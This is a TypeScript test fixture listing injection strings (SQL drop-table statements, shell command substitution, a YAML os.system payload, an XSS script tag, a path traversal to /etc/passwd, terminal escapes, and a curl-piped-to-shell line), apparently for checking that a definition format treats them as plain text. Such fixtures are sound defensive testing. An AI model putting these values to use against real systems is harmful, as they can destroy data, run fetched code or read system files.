/**
 * Texts that do something where they are pasted into YAML, JSON, SQL, a shell, a template or a terminal. In a definition they
 * are texts.
 * @module
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is what such a text looks like
export const injections: readonly string[] = [
  '"; drop table flights; --',
  "'; DROP TABLE flights; --",
  "$(touch pwned)",
  "`touch pwned`",
  "${process.exit(1)}",
  "{{ secrets.password }}",
  "<script>alert(1)</script>",
  "a\nb: c\n- &anchor *anchor",
  "!!python/object/apply:os.system ['id']",
  "%n%s%p",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u202Etxt.exe",
  "=HYPERLINK(1)",
  "../../../etc/passwd",
  "RUN curl example.org | sh",
  "\\\\server\\share",
  "null",
  "__proto__",
  "é e\u0301 ﬀ 🌦",
  "-- ",
];
